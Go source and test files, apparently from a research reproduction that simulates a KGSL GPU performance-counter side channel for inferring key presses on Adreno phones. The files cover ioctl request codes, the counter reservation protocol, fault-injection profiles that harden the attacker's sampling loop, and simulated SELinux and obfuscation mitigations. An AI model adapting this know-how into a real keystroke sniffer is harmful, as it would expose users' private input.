		t.Fatalf("revoked PERFCOUNTER_READ ioctl: %v, want ErrNotReserved", err)
	}
	if dev.reads != 0 || dev.ioctls != 0 {
		t.Fatalf("revoked operations reached the device (reads=%d ioctls=%d)", dev.reads, dev.ioctls)
	}
	// Re-reservation clears the revocation; with PRevoke=1 the next read
	// draws a fresh one, proving the draw resumes only after recovery.
	if err := f.ReserveSelected(3); err != nil {
		t.Fatalf("re-reserve: %v", err)
	}
	if _, err := f.ReadSelected(4); !errors.Is(err, kgsl.ErrNotReserved) {
		t.Fatalf("read after re-reserve: %v, want a fresh revocation", err)
	}
	if f.Stats.Revocations != 2 {
		t.Fatalf("Revocations = %d after re-reserve, want 2", f.Stats.Revocations)
	}
}

func TestWrapTruncatesOneCounter(t *testing.T) {
	dev := &stubDevice{stride: 1, val: 1 << 40}
	raw := &stubDevice{stride: 1, val: 1 << 40}
	f := fault.NewFile(dev, fault.Profile{PWrap: 1}, 1)

	got, err := f.ReadSelected(0)
	if err != nil {
		t.Fatal(err)
	}
	want, _ := raw.ReadSelected(0)
	truncated := 0
	for i := range got {
		switch got[i] {
		case want[i]:
		case want[i] & 0xffffffff:
			truncated++
		default:
			t.Fatalf("counter %d: %#x is neither original %#x nor its low 32 bits", i, got[i], want[i])
		}
	}
	if truncated != 1 {
		t.Fatalf("%d counters truncated, want exactly 1", truncated)
	}
	if f.Stats.Wraps != 1 {
		t.Fatalf("Stats.Wraps = %d, want 1", f.Stats.Wraps)
	}
}

func TestTransientClosureBurst(t *testing.T) {
	dev := &stubDevice{stride: 1}
	f := fault.NewFile(dev, fault.Profile{PClose: 1, CloseOps: 3}, 1)
	for i := 0; i < 3; i++ {
		if _, err := f.ReadSelected(0); !errors.Is(err, kgsl.ErrClosed) {
			t.Fatalf("op %d: %v, want ErrClosed", i, err)
		}
	}
	if f.Stats.Closures != 1 {
		t.Fatalf("Closures = %d after one 3-op closure, want 1", f.Stats.Closures)
	}
}

func TestTickFaults(t *testing.T) {
	f := fault.NewFile(&stubDevice{stride: 1}, fault.Profile{PDropTick: 1}, 1)
	if delay, drop := f.TickFault(0, 0); !drop || delay != 0 {
		t.Fatalf("PDropTick=1: delay=%v drop=%v, want pure drop", delay, drop)
	}
	if f.Stats.DroppedTicks != 1 {
		t.Fatalf("DroppedTicks = %d, want 1", f.Stats.DroppedTicks)
	}

	lateMax := 2 * sim.Millisecond
	f = fault.NewFile(&stubDevice{stride: 1}, fault.Profile{PLateTick: 1, LateMax: lateMax}, 1)
	for i := 0; i < 50; i++ {
		delay, drop := f.TickFault(i, 0)
		if drop {
			t.Fatalf("tick %d dropped by a late-only profile", i)
		}
		if delay <= 0 || delay > lateMax {
			t.Fatalf("tick %d: delay %v outside (0, %v]", i, delay, lateMax)
		}
	}
	if f.Stats.LateTicks != 50 {
		t.Fatalf("LateTicks = %d, want 50", f.Stats.LateTicks)
	}
}

// TestInjectionDeterminism pins the replay contract: the same (profile,
// seed) over the same call sequence injects the identical schedule.
func TestInjectionDeterminism(t *testing.T) {
	run := func(seed int64) (fault.InjectedStats, []error) {
		f := fault.NewFile(&stubDevice{stride: 3}, fault.Moderate, seed)
		var errs []error
		for i := 0; i < 500; i++ {
			at := sim.Time(i) * sim.Millisecond
			f.TickFault(i, at)
			_, err := f.ReadSelected(at)
			if errors.Is(err, kgsl.ErrNotReserved) {
				errs = append(errs, err)
				_ = f.ReserveSelected(at)
				continue
			}
			errs = append(errs, err)
		}
		return f.Stats, errs
	}

	s1, e1 := run(42)
	s2, e2 := run(42)
	if s1 != s2 {
		t.Fatalf("same seed, different injections:\n%+v\n%+v", s1, s2)
	}
	for i := range e1 {
		if !errors.Is(e1[i], e2[i]) && !(e1[i] == nil && e2[i] == nil) {
			t.Fatalf("call %d: error %v vs %v", i, e1[i], e2[i])
		}
	}
	if s1.Total() == 0 {
		t.Fatal("moderate profile injected nothing over 500 operations")
	}
}
