package fault

import (
	"errors"

	"gpuleak/internal/kgsl"
)

// Taxonomy is the transient-error vocabulary of one side channel: the
// sentinel each injected fault class surfaces as, and the family the
// sampler's retry policy classifies as recoverable. The fault plane was
// born KGSL-shaped — its injections returned kgsl errno sentinels
// unconditionally — but a /proc-file channel fails with its own errno
// family (EAGAIN on a contended read, ESTALE on a rotated file), so the
// plane now carries the taxonomy as a value and every channel supplies
// its own. The zero value is not usable; construct with KGSL() or a
// channel's taxonomy and check with Valid.
type Taxonomy struct {
	// Busy is the transient contention sentinel (EBUSY for KGSL).
	Busy error
	// Inval is the transient spurious-failure sentinel (EINVAL for KGSL).
	Inval error
	// NotReserved marks a revoked reservation; the sampler re-reserves on
	// it rather than merely re-reading.
	NotReserved error
	// Closed is the transient-closure sentinel (EBADF burst for KGSL).
	Closed error
}

// KGSL returns the taxonomy of the KGSL perf-counter channel — the
// original, and the default everywhere a Taxonomy is absent, which keeps
// every pre-channel-plane call site byte-identical.
func KGSL() Taxonomy {
	return Taxonomy{
		Busy:        kgsl.ErrBusy,
		Inval:       kgsl.ErrInval,
		NotReserved: kgsl.ErrNotReserved,
		Closed:      kgsl.ErrClosed,
	}
}

// Valid reports whether every sentinel is populated.
func (x Taxonomy) Valid() bool {
	return x.Busy != nil && x.Inval != nil && x.NotReserved != nil && x.Closed != nil
}

// Retryable classifies a driver error as transient under this taxonomy —
// sentinel-based (errors.Is), never string-based, exactly like the
// original KGSL classification it generalizes.
func (x Taxonomy) Retryable(err error) bool {
	return errors.Is(err, x.Busy) ||
		errors.Is(err, x.Inval) ||
		errors.Is(err, x.NotReserved) ||
		errors.Is(err, x.Closed)
}
