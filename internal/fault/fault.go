// Package fault is the deterministic fault-injection plane of the
// simulated KGSL stack. A real /dev/kgsl-3d0 consumer cannot assume every
// ioctl succeeds or that every sampler tick lands on schedule: the paper
// reports counters being reclaimed mid-session and polls jittering under
// load, and related side-channel pipelines (EavesDroid, ARMageddon) live
// or die on their tolerance to exactly this mess. This package makes that
// mess a first-class, replayable input: a File wraps any KGSL-shaped
// device handle and injects the failure taxonomy a real Adreno stack
// exhibits —
//
//   - transient EBUSY / EINVAL ioctl errors (driver contention, glitches);
//   - counter-group revocation: another process issues PERFCOUNTER_PUT/GET
//     on the shared global counters and the attacker's reservation dies
//     mid-session (kgsl.ErrNotReserved until re-reserved);
//   - missed and late sampler ticks (scheduler preemption of the polling
//     loop);
//   - wrapped/saturated counter reads (32-bit register truncation);
//   - transient device closure (driver reset; kgsl.ErrClosed for a few
//     operations, then the handle comes back).
//
// Determinism contract: every injection decision is drawn from one
// sim.Rand owned by the File, in call order. A File is used by a single
// sampling goroutine (exactly like kgsl.File), so for a fixed (Profile,
// seed) the fault schedule replays bit-identically — at any worker count,
// because concurrent scenarios each own an independently seeded File
// (sim.TaskSeed-style derivation, see Seed).
package fault

import "gpuleak/internal/sim"

// Profile parameterizes one fault plane: per-operation probabilities plus
// burst shapes. The zero value injects nothing — wrapping a device in the
// zero Profile is a byte-identical passthrough, which the golden tests
// pin. Probabilities are per ioctl (PBusy, PInval, PRevoke, PClose, PWrap)
// or per sampler tick (PDropTick, PLateTick).
type Profile struct {
	// Name identifies the profile in reports and request bodies.
	Name string `json:"name"`

	// PBusy is the per-operation probability of a transient EBUSY burst;
	// BusyBurst is how many consecutive operations fail once it fires
	// (minimum 1).
	PBusy     float64 `json:"p_busy,omitempty"`
	BusyBurst int     `json:"busy_burst,omitempty"`
	// PInval is the per-operation probability of a one-shot spurious
	// EINVAL.
	PInval float64 `json:"p_inval,omitempty"`
	// PRevoke is the per-read probability that the counter-group
	// reservation is revoked: reads fail with kgsl.ErrNotReserved until
	// the caller re-reserves (PERFCOUNTER_GET / ReserveSelected).
	PRevoke float64 `json:"p_revoke,omitempty"`
	// PDropTick is the per-tick probability that the sampler misses a
	// poll entirely (the monitoring process lost the CPU for the whole
	// interval); DropBurst is how many consecutive ticks are lost once it
	// fires (minimum 1) — a foreground app pinning the CPUs deschedules
	// the polling loop for whole bursts, not single intervals.
	PDropTick float64 `json:"p_drop_tick,omitempty"`
	DropBurst int     `json:"drop_burst,omitempty"`
	// PLateTick is the per-tick probability that a poll lands late by a
	// uniform delay in (0, LateMax]; LateMax defaults to 2 ms.
	PLateTick float64  `json:"p_late_tick,omitempty"`
	LateMax   sim.Time `json:"late_max_us,omitempty"`
	// PWrap is the per-read probability that one counter value is
	// truncated to 32 bits (register wrap / saturation).
	PWrap float64 `json:"p_wrap,omitempty"`
	// PClose is the per-operation probability of a transient device
	// closure: CloseOps consecutive operations fail with kgsl.ErrClosed,
	// then the handle recovers (minimum 3).
	PClose   float64 `json:"p_close,omitempty"`
	CloseOps int     `json:"close_ops,omitempty"`
}

// IsZero reports whether the profile injects nothing.
func (p Profile) IsZero() bool {
	return p.PBusy == 0 && p.PInval == 0 && p.PRevoke == 0 &&
		p.PDropTick == 0 && p.PLateTick == 0 && p.PWrap == 0 && p.PClose == 0
}

// Rate is a crude severity scalar (the sum of all probabilities), used
// only to order profiles in reports and monotonicity tests.
func (p Profile) Rate() float64 {
	drop := p.PDropTick
	if p.DropBurst > 1 {
		// One drop event costs DropBurst consecutive ticks, so the
		// per-tick loss fraction scales with the burst length.
		drop *= float64(p.DropBurst)
	}
	return p.PBusy + p.PInval + p.PRevoke + drop + p.PLateTick + p.PWrap + p.PClose
}

// Predefined profiles, in increasing severity. Rates are chosen so that
// the bounded retry policy (attack.DefaultRetryPolicy) recovers every
// profile — accuracy degrades monotonically, availability does not fail —
// which the chaos experiments pin.
var (
	// None injects nothing; wrapping with it is a byte-identical
	// passthrough.
	None = Profile{Name: "none"}
	// Mild models a well-behaved device under light contention.
	Mild = Profile{
		Name:  "mild",
		PBusy: 0.002, BusyBurst: 1,
		PInval:    0.001,
		PDropTick: 0.002,
		PLateTick: 0.01, LateMax: sim.Millisecond,
	}
	// Moderate models a loaded device: bursty EBUSY, occasional
	// revocation, visible tick loss.
	Moderate = Profile{
		Name:  "moderate",
		PBusy: 0.01, BusyBurst: 2,
		PInval:    0.004,
		PRevoke:   0.004,
		PDropTick: 0.01,
		PLateTick: 0.03, LateMax: 2 * sim.Millisecond,
		PWrap: 0.004,
	}
	// Severe models a hostile environment: frequent revocation, long
	// busy bursts, transient driver resets.
	Severe = Profile{
		Name:  "severe",
		PBusy: 0.03, BusyBurst: 3,
		PInval:    0.01,
		PRevoke:   0.015,
		PDropTick: 0.03,
		PLateTick: 0.06, LateMax: 3 * sim.Millisecond,
		PWrap:  0.01,
		PClose: 0.004, CloseOps: 3,
	}
	// Starve models CPU starvation of the monitoring process: a heavy
	// foreground workload deschedules the polling loop in multi-tick
	// bursts, so whole key presses vanish between reads while the device
	// itself stays healthy. This is the profile where a second,
	// non-KGSL observation channel pays off — the ioctl sampler loses
	// entire presses, and only cross-channel fusion gets them back.
	Starve = Profile{
		Name:      "starve",
		PDropTick: 0.035, DropBurst: 5,
		PLateTick: 0.05, LateMax: 2 * sim.Millisecond,
	}
)

// Profiles returns the predefined profiles in increasing severity.
func Profiles() []Profile { return []Profile{None, Mild, Moderate, Severe, Starve} }

// ByName resolves a predefined profile by its Name.
func ByName(name string) (Profile, bool) {
	for _, p := range Profiles() {
		if p.Name == name {
			return p, true
		}
	}
	return Profile{}, false
}

// Names lists the predefined profile names in severity order.
func Names() []string {
	ps := Profiles()
	out := make([]string, len(ps))
	for i, p := range ps {
		out[i] = p.Name
	}
	return out
}

// Seed derives the fault-plane seed of one scenario from a base seed and
// a scenario index. It is sim.TaskSeed with a fixed stream-separation
// constant, so fault schedules never share a stream with the victim
// simulation seeded from the same base.
func Seed(base int64, scenario int) int64 {
	return sim.TaskSeed(base^0x6661756c74, scenario)
}
