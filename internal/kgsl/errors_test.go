package kgsl

import (
	"errors"
	"testing"

	"gpuleak/internal/adreno"
)

// The attack loop (Figure 10) distinguishes driver failures by errno
// identity: ENOTTY means a drifted request code, EINVAL a counter that
// was never reserved, EBADF a stale handle, EACCES a mitigated device.
// These tests pin the exact error values those branches rely on.

func TestIoctlUnknownRequestCode(t *testing.T) {
	f, err := newTestDevice().Open(UntrustedApp(1))
	if err != nil {
		t.Fatal(err)
	}
	// A request code with the right type byte but an unassigned nr still
	// has to be rejected.
	bogus := iowr(0x7F, 16)
	if err := f.Ioctl(0, bogus, &PerfcounterGet{}); !errors.Is(err, ErrBadRequest) {
		t.Fatalf("unknown request code: got %v, want ErrBadRequest", err)
	}
	if err := f.Ioctl(0, 0, nil); !errors.Is(err, ErrBadRequest) {
		t.Fatalf("zero request code: got %v, want ErrBadRequest", err)
	}
}

func TestIoctlWrongArgType(t *testing.T) {
	f, err := newTestDevice().Open(UntrustedApp(1))
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		name    string
		request uint32
		arg     any
	}{
		{"get-with-put", IoctlPerfcounterGet, &PerfcounterPut{}},
		{"put-with-get", IoctlPerfcounterPut, &PerfcounterGet{}},
		{"read-with-query", IoctlPerfcounterRead, &PerfcounterQuery{}},
		{"query-with-read", IoctlPerfcounterQuery, &PerfcounterRead{}},
		{"get-by-value", IoctlPerfcounterGet, PerfcounterGet{}},
		{"nil-arg", IoctlPerfcounterRead, nil},
	}
	for _, c := range cases {
		if err := f.Ioctl(0, c.request, c.arg); !errors.Is(err, ErrInval) {
			t.Errorf("%s: got %v, want ErrInval", c.name, err)
		}
	}
}

func TestReadSelectedBeforeReserveSelected(t *testing.T) {
	f, err := newTestDevice().Open(UntrustedApp(1))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.ReadSelected(1000); !errors.Is(err, ErrNotReserved) {
		t.Fatalf("block read before PERFCOUNTER_GET: got %v, want ErrNotReserved", err)
	}
	// After the setup step, the same block read succeeds.
	if err := f.ReserveSelected(0); err != nil {
		t.Fatalf("ReserveSelected: %v", err)
	}
	if _, err := f.ReadSelected(1000); err != nil {
		t.Fatalf("ReadSelected after reserve: %v", err)
	}
}

func TestReadThroughClosedFile(t *testing.T) {
	f, err := newTestDevice().Open(UntrustedApp(1))
	if err != nil {
		t.Fatal(err)
	}
	if err := f.ReserveSelected(0); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	if _, err := f.ReadSelected(1000); !errors.Is(err, ErrClosed) {
		t.Fatalf("ReadSelected on closed file: got %v, want ErrClosed", err)
	}
	if err := f.ReserveSelected(0); !errors.Is(err, ErrClosed) {
		t.Fatalf("ReserveSelected on closed file: got %v, want ErrClosed", err)
	}
	q := PerfcounterQuery{GroupID: adreno.GroupLRZ}
	if err := f.Ioctl(0, IoctlPerfcounterQuery, &q); !errors.Is(err, ErrClosed) {
		t.Fatalf("query on closed file: got %v, want ErrClosed", err)
	}
}

func TestOpenDeniedBySELinuxPolicy(t *testing.T) {
	dev := newTestDevice()
	dev.OpenDenied = true
	if _, err := dev.Open(UntrustedApp(1)); !errors.Is(err, ErrDeviceAccess) {
		t.Fatalf("open with SELinux deny: got %v, want ErrDeviceAccess", err)
	}
	// A handle opened before the policy landed keeps working: the deny is
	// enforced at open() like the real neverallow rule.
	dev.OpenDenied = false
	f, err := dev.Open(UntrustedApp(1))
	if err != nil {
		t.Fatal(err)
	}
	dev.OpenDenied = true
	if err := f.ReserveSelected(0); err != nil {
		t.Fatalf("existing handle after open-deny: %v", err)
	}
}
