package kgsl

import (
	"errors"
	"testing"

	"gpuleak/internal/adreno"
	"gpuleak/internal/render"
	"gpuleak/internal/sim"
)

func newTestDevice() *Device {
	gpu := adreno.NewGPU(adreno.A650)
	gpu.Submit(adreno.Frame{Start: 1000, End: 2000, Stats: render.FrameStats{
		VisiblePrimAfterLRZ: 1637, VisiblePixelAfterLRZ: 90000,
		PCPrimitives: 1700, TotalPixels: 90000,
	}})
	return NewDevice(gpu)
}

func openTestFile(t *testing.T, d *Device) *File {
	t.Helper()
	f, err := d.Open(UntrustedApp(1234))
	if err != nil {
		t.Fatalf("Open: %v", err)
	}
	return f
}

func TestRequestCodeEncoding(t *testing.T) {
	// _IOWR(0x09, 0x38, 16) = dir(3)<<30 | 16<<16 | 0x09<<8 | 0x38
	want := uint32(3)<<30 | 16<<16 | 0x09<<8 | 0x38
	if IoctlPerfcounterGet != want {
		t.Fatalf("GET code = %#x, want %#x", IoctlPerfcounterGet, want)
	}
	if IoctlPerfcounterRead&0xFF != 0x3B {
		t.Fatalf("READ nr = %#x, want 0x3B", IoctlPerfcounterRead&0xFF)
	}
	if (IoctlPerfcounterGet>>8)&0xFF != KGSLIocType {
		t.Fatal("ioc type byte wrong")
	}
}

func TestUnprivilegedOpenSucceeds(t *testing.T) {
	d := newTestDevice()
	f, err := d.Open(UntrustedApp(1))
	if err != nil {
		t.Fatalf("unprivileged open failed: %v", err)
	}
	defer f.Close()
}

func TestOpenDeniedBySELinux(t *testing.T) {
	d := newTestDevice()
	d.OpenDenied = true
	if _, err := d.Open(UntrustedApp(1)); !errors.Is(err, ErrDeviceAccess) {
		t.Fatalf("want ErrDeviceAccess, got %v", err)
	}
}

func TestReadRequiresReservation(t *testing.T) {
	d := newTestDevice()
	f := openTestFile(t, d)
	rd := PerfcounterRead{Reads: []PerfcounterReadGroup{{GroupID: adreno.GroupLRZ, Countable: adreno.LRZVisiblePrimAfterLRZ}}}
	if err := f.Ioctl(5000, IoctlPerfcounterRead, &rd); !errors.Is(err, ErrNotReserved) {
		t.Fatalf("want ErrNotReserved, got %v", err)
	}
}

func TestGetReadPutCycle(t *testing.T) {
	d := newTestDevice()
	f := openTestFile(t, d)

	get := PerfcounterGet{GroupID: adreno.GroupLRZ, Countable: adreno.LRZVisiblePrimAfterLRZ}
	if err := f.Ioctl(0, IoctlPerfcounterGet, &get); err != nil {
		t.Fatalf("GET: %v", err)
	}
	if get.OffsetLo == 0 {
		t.Fatal("GET did not return a register offset")
	}

	rd := PerfcounterRead{Reads: []PerfcounterReadGroup{{GroupID: adreno.GroupLRZ, Countable: adreno.LRZVisiblePrimAfterLRZ}}}
	if err := f.Ioctl(5000, IoctlPerfcounterRead, &rd); err != nil {
		t.Fatalf("READ: %v", err)
	}
	if rd.Reads[0].Value == 0 {
		t.Fatal("READ returned zero value")
	}

	put := PerfcounterPut{GroupID: adreno.GroupLRZ, Countable: adreno.LRZVisiblePrimAfterLRZ}
	if err := f.Ioctl(0, IoctlPerfcounterPut, &put); err != nil {
		t.Fatalf("PUT: %v", err)
	}
	// After PUT the counter is no longer reserved.
	if err := f.Ioctl(6000, IoctlPerfcounterRead, &rd); !errors.Is(err, ErrNotReserved) {
		t.Fatalf("read after PUT: %v", err)
	}
}

func TestGetUnknownCounter(t *testing.T) {
	d := newTestDevice()
	f := openTestFile(t, d)
	get := PerfcounterGet{GroupID: 0x33, Countable: 99}
	if err := f.Ioctl(0, IoctlPerfcounterGet, &get); !errors.Is(err, ErrNoEnt) {
		t.Fatalf("want ErrNoEnt, got %v", err)
	}
}

func TestPutWithoutGet(t *testing.T) {
	d := newTestDevice()
	f := openTestFile(t, d)
	put := PerfcounterPut{GroupID: adreno.GroupLRZ, Countable: adreno.LRZVisiblePrimAfterLRZ}
	if err := f.Ioctl(0, IoctlPerfcounterPut, &put); !errors.Is(err, ErrNotReserved) {
		t.Fatalf("want ErrNotReserved, got %v", err)
	}
}

func TestReadSeesFrameDelta(t *testing.T) {
	d := newTestDevice()
	f := openTestFile(t, d)
	if err := f.ReserveSelected(0); err != nil {
		t.Fatal(err)
	}
	before, err := f.ReadSelected(500) // before the frame
	if err != nil {
		t.Fatal(err)
	}
	after, err := f.ReadSelected(3000) // after the frame
	if err != nil {
		t.Fatal(err)
	}
	if d := after[0] - before[0]; d != 1637 {
		t.Fatalf("VISIBLE_PRIM delta = %d, want 1637", d)
	}
}

func TestReadLatencyShiftsSample(t *testing.T) {
	d := newTestDevice()
	d.ReadLatency = func(t sim.Time) sim.Time { return t + 1500 } // lands mid/after frame
	f := openTestFile(t, d)
	if err := f.ReserveSelected(0); err != nil {
		t.Fatal(err)
	}
	// Request at t=0 actually samples at t=1500, i.e. mid-frame: the value
	// must reflect a partial draw.
	v, err := f.ReadSelected(0)
	if err != nil {
		t.Fatal(err)
	}
	d.ReadLatency = nil
	base, _ := f.ReadSelected(0)
	delta := v[0] - base[0]
	if delta == 0 || delta == 1637 {
		t.Fatalf("latency-shifted read delta = %d, want partial", delta)
	}
}

type denyLRZ struct{}

func (denyLRZ) AllowPerfcounterRead(ctx ProcContext, k adreno.CounterKey) error {
	if k.Group == adreno.GroupLRZ && ctx.SELinuxContext == "u:r:untrusted_app:s0" {
		return ErrPerm
	}
	return nil
}

func TestPolicyBlocksRead(t *testing.T) {
	d := newTestDevice()
	d.SetPolicy(denyLRZ{})
	f := openTestFile(t, d)
	if err := f.ReserveSelected(0); err != nil {
		t.Fatal(err)
	}
	if _, err := f.ReadSelected(5000); !errors.Is(err, ErrPerm) {
		t.Fatalf("policy not enforced: %v", err)
	}
}

type plusOne struct{}

func (plusOne) Obfuscate(k adreno.CounterKey, v uint64, t sim.Time) uint64 { return v + 1 }

func TestObfuscatorApplied(t *testing.T) {
	d := newTestDevice()
	f := openTestFile(t, d)
	if err := f.ReserveSelected(0); err != nil {
		t.Fatal(err)
	}
	clean, _ := f.ReadSelected(5000)
	d.SetObfuscator(plusOne{})
	fuzzed, _ := f.ReadSelected(5000)
	for i := range clean {
		if fuzzed[i] != clean[i]+1 {
			t.Fatalf("obfuscator not applied at %d: %d vs %d", i, fuzzed[i], clean[i])
		}
	}
}

func TestQueryCountables(t *testing.T) {
	d := newTestDevice()
	f := openTestFile(t, d)
	q := PerfcounterQuery{GroupID: adreno.GroupLRZ}
	if err := f.Ioctl(0, IoctlPerfcounterQuery, &q); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, c := range q.Countables {
		if c == 13 {
			found = true
		}
	}
	if !found {
		t.Fatalf("query missing countable 13: %v", q.Countables)
	}
	// MaxCounters truncates.
	q2 := PerfcounterQuery{GroupID: adreno.GroupLRZ, MaxCounters: 2}
	if err := f.Ioctl(0, IoctlPerfcounterQuery, &q2); err != nil {
		t.Fatal(err)
	}
	if len(q2.Countables) != 2 {
		t.Fatalf("MaxCounters not honored: %d", len(q2.Countables))
	}
}

func TestUnknownRequest(t *testing.T) {
	d := newTestDevice()
	f := openTestFile(t, d)
	if err := f.Ioctl(0, 0xDEAD, nil); !errors.Is(err, ErrBadRequest) {
		t.Fatalf("want ErrBadRequest, got %v", err)
	}
}

func TestWrongArgType(t *testing.T) {
	d := newTestDevice()
	f := openTestFile(t, d)
	if err := f.Ioctl(0, IoctlPerfcounterGet, &PerfcounterRead{}); !errors.Is(err, ErrInval) {
		t.Fatalf("want ErrInval, got %v", err)
	}
}

func TestClosedFile(t *testing.T) {
	d := newTestDevice()
	f := openTestFile(t, d)
	f.Close()
	get := PerfcounterGet{GroupID: adreno.GroupLRZ, Countable: adreno.LRZVisiblePrimAfterLRZ}
	if err := f.Ioctl(0, IoctlPerfcounterGet, &get); !errors.Is(err, ErrClosed) {
		t.Fatalf("want ErrClosed, got %v", err)
	}
}

func TestEmptyReadBuffer(t *testing.T) {
	d := newTestDevice()
	f := openTestFile(t, d)
	if err := f.Ioctl(0, IoctlPerfcounterRead, &PerfcounterRead{}); !errors.Is(err, ErrInval) {
		t.Fatalf("want ErrInval, got %v", err)
	}
}

func TestIoctlCountTracksCalls(t *testing.T) {
	d := newTestDevice()
	f := openTestFile(t, d)
	if err := f.ReserveSelected(0); err != nil {
		t.Fatal(err)
	}
	n0 := d.IoctlCount()
	for i := 0; i < 10; i++ {
		if _, err := f.ReadSelected(sim.Time(i) * 8000); err != nil {
			t.Fatal(err)
		}
	}
	if d.IoctlCount()-n0 != 10 {
		t.Fatalf("ioctl count delta = %d, want 10", d.IoctlCount()-n0)
	}
}

func TestBusyPercentage(t *testing.T) {
	gpu := adreno.NewGPU(adreno.A650)
	// 50 ms of drawing in the last 100 ms.
	gpu.Submit(adreno.Frame{Start: 0, End: 50 * sim.Millisecond, Stats: render.FrameStats{TotalPixels: 1}})
	d := NewDevice(gpu)
	got := d.BusyPercentage(100 * sim.Millisecond)
	if got < 49 || got > 51 {
		t.Fatalf("busy%% = %v, want ~50", got)
	}
}

func TestReservationRefcount(t *testing.T) {
	d := newTestDevice()
	f := openTestFile(t, d)
	get := PerfcounterGet{GroupID: adreno.GroupLRZ, Countable: adreno.LRZVisiblePrimAfterLRZ}
	if err := f.Ioctl(0, IoctlPerfcounterGet, &get); err != nil {
		t.Fatal(err)
	}
	if err := f.Ioctl(0, IoctlPerfcounterGet, &get); err != nil {
		t.Fatal(err)
	}
	put := PerfcounterPut{GroupID: adreno.GroupLRZ, Countable: adreno.LRZVisiblePrimAfterLRZ}
	if err := f.Ioctl(0, IoctlPerfcounterPut, &put); err != nil {
		t.Fatal(err)
	}
	// One reference remains: reads still succeed.
	rd := PerfcounterRead{Reads: []PerfcounterReadGroup{{GroupID: adreno.GroupLRZ, Countable: adreno.LRZVisiblePrimAfterLRZ}}}
	if err := f.Ioctl(5000, IoctlPerfcounterRead, &rd); err != nil {
		t.Fatalf("read after single PUT of double GET: %v", err)
	}
	if err := f.Ioctl(0, IoctlPerfcounterPut, &put); err != nil {
		t.Fatal(err)
	}
	if err := f.Ioctl(6000, IoctlPerfcounterRead, &rd); err == nil {
		t.Fatal("read after final PUT succeeded")
	}
}

func TestQueryUnknownGroup(t *testing.T) {
	d := newTestDevice()
	f := openTestFile(t, d)
	q := PerfcounterQuery{GroupID: 0x77}
	if err := f.Ioctl(0, IoctlPerfcounterQuery, &q); err == nil {
		t.Fatal("unknown group query succeeded")
	}
}

func TestMultiCounterReadSingleIoctl(t *testing.T) {
	// Figure 10: one blockread ioctl fills a multi-entry buffer.
	d := newTestDevice()
	f := openTestFile(t, d)
	if err := f.ReserveSelected(0); err != nil {
		t.Fatal(err)
	}
	n0 := d.IoctlCount()
	if _, err := f.ReadSelected(5000); err != nil {
		t.Fatal(err)
	}
	if d.IoctlCount()-n0 != 1 {
		t.Fatalf("multi-counter read used %d ioctls, want 1", d.IoctlCount()-n0)
	}
}
