// Package kgsl simulates Qualcomm's Kernel Graphics Support Layer device
// file (/dev/kgsl-3d0), the interface the paper's unprivileged attacker
// uses to read global GPU performance counters via the ioctl() system
// call (§4). The request codes, struct layouts and GET/READ/PUT reservation
// protocol mirror msm_kgsl.h; time is passed explicitly because the
// simulation has no implicit wall clock.
//
// The device supports pluggable access-control policies and value
// obfuscators so that the paper's §9 mitigations (SELinux/RBAC whitelisting
// and counter obfuscation) are implementable without modifying callers.
package kgsl

import (
	"errors"
	"fmt"

	"gpuleak/internal/adreno"
	"gpuleak/internal/obs"
	"gpuleak/internal/sim"
)

// KGSL ioctl encoding, as in the Linux UAPI headers.
const (
	iocWrite   = 1
	iocRead    = 2
	iocTypeBit = 8
	iocNrBits  = 8
	iocSizeBit = 16
	iocDirBit  = 30

	// KGSLIocType is the ioctl 'type' byte used by the KGSL driver.
	KGSLIocType = 0x09
)

// iowr builds an _IOWR request code.
func iowr(nr, size uint32) uint32 {
	return (iocRead|iocWrite)<<iocDirBit | size<<iocSizeBit | KGSLIocType<<iocTypeBit | nr
}

// Request codes from msm_kgsl.h (Figure 9 of the paper). Struct sizes use
// the 64-bit kernel ABI layouts.
var (
	// IoctlPerfcounterGet reserves a performance counter
	// (_IOWR(KGSL_IOC_TYPE, 0x38, struct kgsl_perfcounter_get)).
	IoctlPerfcounterGet = iowr(0x38, 16)
	// IoctlPerfcounterPut releases a reserved counter
	// (_IOW(KGSL_IOC_TYPE, 0x39, struct kgsl_perfcounter_put)).
	IoctlPerfcounterPut = iowr(0x39, 16)
	// IoctlPerfcounterQuery lists countables in a group
	// (_IOWR(KGSL_IOC_TYPE, 0x3A, struct kgsl_perfcounter_query)).
	IoctlPerfcounterQuery = iowr(0x3A, 24)
	// IoctlPerfcounterRead block-reads counter values
	// (_IOWR(KGSL_IOC_TYPE, 0x3B, struct kgsl_perfcounter_read)).
	IoctlPerfcounterRead = iowr(0x3B, 16)
)

// PerfcounterGet mirrors struct kgsl_perfcounter_get.
type PerfcounterGet struct {
	GroupID   uint32
	Countable uint32
	OffsetLo  uint32 // register offset returned by the driver
	OffsetHi  uint32
}

// PerfcounterPut mirrors struct kgsl_perfcounter_put, including the
// __pad[2] tail the kernel reserves for binary compatibility — without it
// the struct is 8 bytes and the _IOW size bits (16) would encode a
// request code the real driver rejects with ENOTTY.
type PerfcounterPut struct {
	GroupID   uint32
	Countable uint32
	Pad       [2]uint32
}

// PerfcounterReadGroup mirrors struct kgsl_perfcounter_read_group: one
// entry of the read buffer; the driver writes Value.
type PerfcounterReadGroup struct {
	GroupID   uint32
	Countable uint32
	Value     uint64
}

// PerfcounterRead mirrors struct kgsl_perfcounter_read: a pointer to the
// rx buffer plus its length (the slice carries both).
type PerfcounterRead struct {
	Reads []PerfcounterReadGroup
}

// PerfcounterQuery mirrors struct kgsl_perfcounter_query.
type PerfcounterQuery struct {
	GroupID     uint32
	Countables  []uint32 // filled by the driver
	MaxCounters uint32
}

// ProcContext identifies the calling process the way the kernel sees it:
// Linux UID plus SELinux context. Ordinary apps run as untrusted_app.
type ProcContext struct {
	PID            int
	UID            int
	SELinuxContext string
}

// UntrustedApp returns the context of an unprivileged Android application.
func UntrustedApp(pid int) ProcContext {
	return ProcContext{PID: pid, UID: 10000 + pid%1000, SELinuxContext: "u:r:untrusted_app:s0"}
}

// Policy decides whether a process may read a performance counter. The
// default (nil) policy allows everything, which is the pre-disclosure
// Android behavior the paper exploits.
type Policy interface {
	AllowPerfcounterRead(ctx ProcContext, k adreno.CounterKey) error
}

// Obfuscator perturbs counter values before they reach user space; used by
// the §9.3 obfuscation mitigation. The zero (nil) obfuscator is identity.
type Obfuscator interface {
